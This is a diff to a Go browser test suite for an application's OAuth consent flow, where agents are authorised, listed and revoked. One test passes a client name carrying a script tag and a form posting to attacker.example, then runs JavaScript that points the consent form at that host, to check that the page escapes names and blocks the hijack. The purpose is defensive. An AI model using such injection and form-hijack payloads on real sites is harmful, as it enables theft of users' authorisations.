@@ -63,7 +63,7 @@ var _ = Describe("An agent", Ordered, func() {
 		must(json.NewDecoder(response.Body).Decode(&client))
 		return herald().Site() + "/oauth/authorize?" + url.Values{
 			"client_id": {client.ID}, "redirect_uri": {redirect}, "response_type": {"code"}, "state": {"s-1"}, "scope": {"read draft publish"},
-			"code_challenge": {"E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"}, "code_challenge_method": {"S256"}, "resource": {herald().Site() + "/mcp"},
+			"code_challenge": {challenge}, "code_challenge_method": {"S256"}, "resource": {herald().Site() + "/mcp"},
 		}.Encode()
 	}
 
@@ -101,16 +101,6 @@ var _ = Describe("An agent", Ordered, func() {
 		Expect((*answers)[0]).To(And(HaveKeyWithValue("error", []string{"access_denied"}), Not(HaveKey("code"))))
 	})
 
-	It("is reached in an application of the person's machine", func() {
-		must(page.Open(consent("An editor", cursor)))
-		must(page.WaitText("cursor:"))
-		must(page.Get("button", "Allow").Click())
-		Eventually(page.Opened).Should(ContainElement(And(HavePrefix(cursor+"?"), ContainSubstring("code="), ContainSubstring("state=s-1"))))
-		for _, problem := range page.Forget() {
-			Expect(problem).NotTo(ContainSubstring("Content Security Policy"))
-		}
-	})
-
 	It("cannot show the page of consent in its own", func() {
 		redirect, _ := loopback()
 		inside := consent("In a frame", redirect)
@@ -127,8 +117,7 @@ var _ = Describe("An agent", Ordered, func() {
 	})
 
 	It("cannot have its own script or form on the page of consent", func() {
-		redirect, _ := loopback()
-		must(page.Open(consent(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, redirect)))
+		must(page.Open(consent(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, cursor)))
 		Expect(page.Get("button", "Allow").Count()).To(Equal(1), "a name is text")
 		Expect(page.Problems()).To(BeEmpty())
 		_, err := chrome.Eval[any](page, `(() => { const form = document.querySelector("form[action='/oauth/authorize']"); form.action = "https://attacker.example/"; form.submit(); })()`)
@@ -138,18 +127,57 @@ var _ = Describe("An agent", Ordered, func() {
 	})
 
 	It("is listed with what it may, and ended there", func() {
-		must(page.Open(herald().Site()))
-		must(site.Agents())
-		inEveryLook(page, "agents")
-		must(page.OpenCold(currentURL(page)))
+		redirect, answers := loopback()
+		address := consent("To be ended", redirect)
+		must(page.Open(address))
+		must(web.ChooseLevel(page, web.MayDraft))
+		must(web.AllowAgent(page))
+		redeem(address, redirect, (*answers)[0].Get("code"))
+
+		must(page.OpenCold(herald().Site() + "/teams/herald-demo/agents"))
 		expectLight(page)
-		must(page.WaitText("An editor"))
-		must(site.RevokeAgent("An editor"))
+		inEveryLook(page, "agents")
+		card := page.GetSaying("listitem", "To be ended")
+		must(card.Wait())
+		Expect(card.Text()).To(ContainSubstring(web.MayDraft))
+		must(site.RevokeAgent("To be ended"))
 		Expect(page.Problems()).To(BeEmpty())
-		Expect(page.GetSaying("listitem", "An editor").Get("button", "Revoke").Count()).To(BeZero())
+		Expect(card.Get("button", "Revoke").Count()).To(BeZero())
 		inEveryLook(page, "agents-ended")
 	})
+
+	// The last: the browser asks whether it may open the application, and takes no clicks from then on.
+	It("is reached in an application of the person's machine", func() {
+		must(page.Open(consent("An editor", cursor)))
+		must(page.WaitText("cursor:"))
+		must(page.Get("button", "Allow").Click())
+		Eventually(page.Opened).Should(ContainElement(And(HavePrefix(cursor+"?"), ContainSubstring("code="), ContainSubstring("state=s-1"))))
+		for _, problem := range page.Forget() {
+			Expect(problem).NotTo(ContainSubstring("Content Security Policy"))
+		}
+	})
 })
+
+// redeem turns a code into tokens, as the client does that has sent a person to that address: what a person has allowed is kept from
+// then on.
+func redeem(authorize, redirect, code string) {
+	GinkgoHelper()
+	asked, err := url.Parse(authorize)
+	must(err)
+	response, err := http.PostForm(herald().Site()+"/oauth/token", url.Values{ //nolint:noctx // the limit is the spec's
+		"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {redirect}, "client_id": {asked.Query().Get("client_id")},
+		"code_verifier": {verifier}, "resource": {asked.Query().Get("resource")},
+	})
+	must(err)
+	must(response.Body.Close())
+	Expect(response).To(HaveHTTPStatus(http.StatusOK))
+}
+
+// verifier and challenge are those of RFC 7636, appendix B.
+const (
+	verifier  = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
+	challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
+)
 
 // anotherLink is a link to sign in by, beside that of the run, which is good once.
 func anotherLink() string {
@@ -161,11 +189,4 @@ func anotherLink() string {
 	token, err := session.AddLink(context.Background(), secrets, configv1alpha1.DefaultSignInSecret, clock.RealClock{}, time.Hour)
 	must(err)
 	return herald().Site() + signin.LinkPath + token
-}
-
-func currentURL(page *chrome.Page) string {
-	GinkgoHelper()
-	url, err := page.URL()
-	must(err)
-	return url
 }
